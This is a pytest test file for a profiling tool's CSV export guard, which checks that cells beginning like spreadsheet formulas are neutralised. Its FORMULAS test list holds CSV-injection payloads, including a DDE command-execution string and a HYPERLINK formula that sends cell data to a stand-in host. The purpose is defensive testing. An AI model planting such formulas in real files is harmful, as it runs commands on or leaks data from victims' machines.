"""CSV for spreadsheets has no cell that one would run, and CSV for programs is as it was."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import TYPE_CHECKING

import pytest
from support.enriched import feed

from perftui.probes.export.tables.spreadsheet import Guard
from perftui.probes.recording.write.writer import Recording
from perftui.probes.spine.calltree import CallTree
from perftui.probes.spine.reader import Target
from perftui.probes.spine.records import LogLine
from perftui.tui.cli import main

if TYPE_CHECKING:
    from pathlib import Path

S = 10**9
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "-",
]
HARMLESS = ["", "plain", "-5", "+1.5e3", "-.5", "1-2", " x", "'=1", "é=", "a=b", "—"]


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = Target("t", ("t",), 7, python=None, launched=True, agent=False)
    path = tmp_path_factory.mktemp("formulas") / "a.perftui"
    recording = Recording(path, CallTree(), target, 0, clock=lambda: 60 * S)
    lines = [*FORMULAS, *HARMLESS]
    feed(recording, [LogLine(n * S, "stdout", text) for n, text in enumerate(lines, 1)])
    recording.close()
    return recording.directory


def texts(data: str) -> list[str]:
    return [row["text"] for row in csv.DictReader(io.StringIO(data, newline=""))]


def test_only_formulas_are_changed_and_counted() -> None:
    guard = Guard()
    assert [guard.cell(text) for text in FORMULAS] == ["'" + text for text in FORMULAS]
    assert [guard.cell(text) for text in HARMLESS] == HARMLESS
    assert [guard.cell(value) for value in (-5, -1.5, None, True)] == [-5, -1.5, None, True]
    assert guard.count == len(FORMULAS)
    line = guard.line()
    assert line is not None
    assert line.startswith(f"{len(FORMULAS)} cells begin like a formula")
    assert Guard().line() is None


GUARDED = ["'" + text for text in FORMULAS] + HARMLESS
QUERY = "SELECT text, -3 AS number FROM log ORDER BY t_ns"


@pytest.mark.parametrize(
    ("words", "guarded"),
    [
        (("export", "HERE", "--format", "csv", "--table", "log", "-o", "x.csv"), True),
        (("export", "HERE", "--table", "log", "-o", "x.csv", "--no-spreadsheet"), False),
        (("export", "HERE", "--format", "csv", "--table", "log", "-o", "x.txt"), False),
        (("export", "HERE", "--format", "csv", "--table", "log", "-o", "-"), False),
        (("query", "HERE", QUERY, "-o", "x.csv"), True),
        (("query", "HERE", QUERY, "-o", "x.csv", "--no-spreadsheet"), False),
        (("query", "HERE", QUERY, "--format", "csv"), False),
        (("query", "HERE", QUERY, "--format", "csv", "--spreadsheet"), True),
    ],
)
def test_files_called_csv_are_meant_for_spreadsheets(
    recorded: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    words: tuple[str, ...],
    guarded: bool,
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main([word.replace("HERE", str(recorded)) for word in words]) == 0
    said = capfd.readouterr()
    (data,) = [file.read_bytes().decode() for file in tmp_path.iterdir()] or [said.out]
    assert texts(data) == (GUARDED if guarded else [*FORMULAS, *HARMLESS])
    assert ("cells begin like a formula" in said.err) is guarded
    if words[0] == "query":
        assert data.splitlines()[0] == "text,number"
        assert data.rstrip("\n").endswith(",-3")


def test_folders_and_archives_of_tables_are_too(
    recorded: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    export = ["export", str(recorded), "--format", "csv", "-o"]
    assert main([*export, str(tmp_path / "tables")]) == 0
    assert texts((tmp_path / "tables/log.csv").read_bytes().decode()) == GUARDED
    assert main([*export, str(tmp_path / "x.zip")]) == 0
    with zipfile.ZipFile(tmp_path / "x.zip") as archive:
        assert texts(archive.read("log.csv").decode()) == GUARDED


@pytest.mark.parametrize("command", [("export", "--format", "json", "--table", "log"), ("query",)])
def test_the_option_is_for_csv(
    recorded: Path, capfd: pytest.CaptureFixture[str], command: tuple[str, ...]
) -> None:
    rest = () if command[0] == "export" else ("SELECT 1",)
    words = [command[0], str(recorded), *rest, *command[1:], "--spreadsheet"]
    assert main(words) == 2
    assert "--spreadsheet is for csv, not" in capfd.readouterr().err
